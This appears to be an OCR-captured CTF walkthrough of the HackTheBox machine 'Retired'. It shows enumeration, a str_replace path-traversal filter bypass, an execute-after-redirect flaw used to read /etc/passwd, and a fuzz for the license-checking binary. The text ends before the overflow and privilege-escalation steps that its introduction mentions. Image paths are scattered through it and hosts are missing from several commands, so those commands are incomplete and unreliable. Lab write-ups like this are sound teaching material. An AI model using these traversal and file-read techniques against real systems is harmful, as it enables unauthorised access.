Retired starts out with a file read plus a directory traversal vulnerability. (There’s also an EAR vulnerability that I originally missed, but added in later). With that, I’ll get a copy of a binary that gets fed a file via an upload on the website. There’s a buffer overflow, which I can exploit via an uploaded file. I’ll use ROP to make the stack executable, and then run a reverse shell shellcode from it. With a shell, I’ll throw a symlink into a backup directory and get an SSH key from the user. To get root, I’ll abuse binfmt_misc. In Beyond Root, some loose ends that were annoying me.

Box Info

Name Retired Retired
Play on HackTheBox
Release Date 02 Apr 2022
Retire Date 13 Aug 2022
OS Linux Linux
Base Points Medium [30]
RatedDifficulty Rated difficulty for Retired
Radar Graph Radar chart for Retired
First Blood User 2 hours, 51 mins, 27 seconds jazzpizazz
First Blood Root 3 hours, 18 mins, 07 seconds jazzpizazz
Creator uco2KFh



nmap finds two open TCP ports, SSH (22) and HTTP (80):

oxdf@hacky$ nmap -p- --min-rate 10000
Starting Nmap 7.80 ( ) at 2022-07-01 19:08 UTC
Nmap scan report for
Host is up (0.096s latency).
Not shown: 65533 closed ports22/tcp open  ssh
80/tcp open  http

Nmap done: 1 IP address (1 host up) scanned in 9.39 seconds
oxdf@hacky$ nmap -p 22,80 -sCV
Starting Nmap 7.80 ( ) at 2022-07-01 19:08UTC
Nmap scan report for
Host is up (0.086s latency).

22/tcp open  ssh     OpenSSH 8.4p1 Debian 5 (protocol 2.0)
80/tcp open  http    nginx
| http-title: Agency - Start Bootstrap Theme
|_Requested resource was /index.php?page=default.html
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report anyincorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 10.10 seconds

Based on the OpenSSH version, the host is likely running Debian 11 bullseye.

Website - TCP 80


The site is for a software development company:

There is a contact form at the bottom of the page, but on filling it out and submitting, there’s a link to the template’s site about how to activate the form:


No traffic is sent to the site on submitting. This is likely nothing of interest.

Everything else on the site goes to somewhere on the site, so not much enumeration here.

Tech Stack

On visiting /, it redirects to /index.php?page=default.html:

HTTP/1.1 302 Found
Server: nginx
Date: Fri, 01 Jul 2022 19:12:02 GMT
Content-Type: text/html; charset=UTF-8
Connection: close
Location: /index.php?page=default.html
Content-Length: 0This is a common PHP pattern to include a page passed via a parameter.

Visiting /default.html loads the same page, so it’s not clear what index.php is providing. In fact, looking at default.html directly and through index.php shows no difference:

oxdf@hacky$ diff <(curl -s <(curl -s

The site is built on PHP, and uses both PHP and HTML files.

Directory Brute Force

I’ll run feroxbuster against the site, and include -x php,html since I know the site is PHP with HTML files:

oxdf@hacky$ feroxbuster -u -x php,html

 ___  ___  __   __     __      __         __   ___
|__  |__  |__) |__) | /  `    /  \ \_/ | |  \ |__
|    |___ |  \ |  \ | \__,    \__/ / \ | |__/ |___
by Ben "epi" Risher                  ver: 2.7.1
   Target Url            │
   Threads               │ 50
   Wordlist              │ /usr/share/seclists/Discovery/Web-Content/raft-medium-directories.txt
   Status Codes          │ [200, 204, 301, 302, 307, 308, 401, 403, 405, 500]Timeout (secs)        │ 7
   User-Agent            │ feroxbuster/2.7.1
   Extensions            │ [php, html]
   HTTP methods          │ [GET]
   Recursion Depth       │ 4
   Press [ENTER] to use the Scan Management Menu™
302      GET        0l        0w        0c => /index.php?page=default.html
301      GET        7l       11w      162c =>
301      GET        7l       11w      162c =>
301      GET        7l       11w      162c =>
301      GET        7l       11w      162c =>
302      GET        0l        0w        0c => /index.php?page=default.html
200      GET       72l      304w     4144c
301      GET        7l       11w      162c =>
301      GET        7l       11w      162c =>
200      GET      188l      824w    11414c
301      GET        7l       11w      162c =>
[###] - 2m    720000/720000  0s      found:11      errors:0
[###] - 2m     90000/90000   541/s
[###] - 2m     90000/90000   542/s
[###] - 2m     90000/90000   542/s
[###] - 2m     90000/90000   542/s
[###] - 2m     90000/90000   542/s
[###] - 2m     90000/90000   542/s
[###] - 2m     90000/90000   543/s
[###] - 2m     90000/90000   542/s

beta.html is the only thing new here to look at.


beta.html (viewed directly or through index.php) is the page for the beta testing program for EmuEmu (one of the software mentioned on the main page).


It offers a file upload form, but anything I submit just returns an empty 200 response:

HTTP/1.1 200 OK
Server: nginx
Date: Fri, 01 Jul 2022 19:26:42 GMTContent-Type: text/html; charset=UTF-8
Connection: close
Content-Length: 0

It does mention the name of the license application, which I’ll note:


Shell as www-data

File Read


Given the structure of the URL, I’ll try to read some other files. I can try to read outside of the current directory withpage=../../../../../../../etc/passwd, but it fails and redirects to page=default.html. What about index.php itself? Visiting in Firefox returns what looks like an empty page. But looking at the source for that page reveals the PHP itself:

HTTP/1.1 200 OK
Server: nginx
Date: Fri, 01 Jul 2022 19:54:46 GMT
Content-Type: text/html; charset=UTF-8
Connection: close
Content-Length: 348

function sanitize_input($param) {
    $param1 =str_replace("../","",$param);
    $param2 = str_replace("./","",$param1);
    return $param2;

$page = $_GET['page'];
if (isset($page) && preg_match("/^[a-z]/", $page)) {
    $page = sanitize_input($page);
} else {
    header('Location: /index.php?page=default.html');


This is not a local file include vulnerability, but rather a file read vulnerability. This PHP is using readfile() to get the page, and the contents are put into the page after execution and thus not executedthemselves (as opposed to include or require, which put the contents into the page and then execute them).

Read Plus Directory Traversal

With access to index.php, I can see why the attempt to read /etc/passwd failed. For $page to get set to something other than default.html, it has to return true from preg_match("/^[a-z]/", $page), which means that the first character in the value needs to be a lowercase character a-z (. did not match).

There’s also a sanatize_input function, which does a replace on ../ and ./. The replace is done once each, in that order. That means I can stack periods and slashes together in such a way that it returns what I want. For example:

php > $param = '.....///';
php > $param1 = str_replace("../","",$param);php > $param2 = str_replace("./","",$param1);
php > echo $param2;
php > $param = '.....///.....///.....///';
php > $param1 = str_replace("../","",$param);
php > $param2 = str_replace("./","",$param1);
php > echo $param2;

I still need it to start with a letter. I found the css directory with feroxbuster, so I can use that, going into that directory, and then back out. With that bypass, I can read files all over the file system:

oxdf@hacky$ curl
_chrony:x:105:112:Chrony daemon,,,:/var/lib/chrony:/usr/sbin/nologin
systemd-coredump:x:999:999:systemd Core Dumper:/:/usr/sbin/nologin


With that curl command, I’ll make a quick Bash script to make enumeration easier:



It works:

oxdf@hacky$ ./ /etc/passwd

Alternative Read - EAR

I missed this when originally solving the box, but IppSec’s solution showed an execute after redirect (EAR) vulnerability in index.php. I’ve talked about EAR vulnerabilities before in Previse and Fingerprint.

The page redirect if the $page variable isn’t set or if $page doesn’t start with a character by setting the Location header:

$page = $_GET['page'];
if (isset($page) && preg_match("/^[a-z]/", $page)) {
    $page = sanitize_input($page);
} else {
    header('Location: /index.php?page=default.html');After setting that header, the code should exit or return or die. Without that, it still sends a redirect, but with the body of the rest of the code, in this case, the readfile($page).

To demonstrate this, I’ll want to send a $page that will fail that regex check, like ../../../../../../etc/passwd. Because it fails the regex, it won’t even run through sanitize_input (which removes the ../).

Visiting in Firefox just redirects to Looking in Burp shows the first request returns a 302, and then the next request is to default.html:


Looking at the actual response from the first request, it is a 302 redirecting to index.php?page=default.html, but the body has /etc/passwd:Enumerate Filesystem


The only other PHP file I’ve identified is activate_license.php, so I’ll read that with curl

if(isset($_FILES['licensefile'])) {
    $license      = file_get_contents($_FILES['licensefile']['tmp_name']);
    $license_size = $_FILES['licensefile']['size'];

    $socket = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
    if (!$socket) { echo "errorsocket_create()\n"; }

    if(!socket_connect($socket, '', 1337)) {
        echo "error socket_connect()" . socket_strerror(socket_last_error()) . "\n";socket_write($socket, pack("N", $license_size));
    socket_write($socket, $license);


It’s taking the submitted file, and reading the contents and the size. It then creates a socket to TCP 1337 on localhost, and sends the size and then the contents, closing the socket afterwards.

Given that the response was empty, and not “error socket_create()”, that’s a good indication that this service is running and listening on 1337.


The page hinted thatthe name of the program that validated licenses was activate_license. If I suspect that it might be in the path somewhere, I can fuzz those paths via the LFI and see if I find anything. I’ll create a wordlist using my path:

oxdf@hacky$ echo $PATH | tr ':' '\n' > path

wfuzz quickly finds two paths that return non-zero responses:oxdf@hacky$ wfuzz -u -w path
* Wfuzz 2.4.5 - The Web Fuzzer                         *Total requests: 11

ID           Response   Lines    Word     Chars       Payload

000000002:   200        0 L      0W      0 Ch        "/snap/bin"
000000001:   200        0 L      0 W      0 Ch        "/home/oxdf/.local/bin"
000000003:   200        0 L      0 W      0 Ch        "/usr/local/bin"
000000006:   200        0 L      0 W      0 Ch        "/usr/local/games"
000000007:   200        0 L      0 W      0 Ch        "/usr/games"
000000008:   200        0 L      0 W      0 Ch        "/usr/share/games"
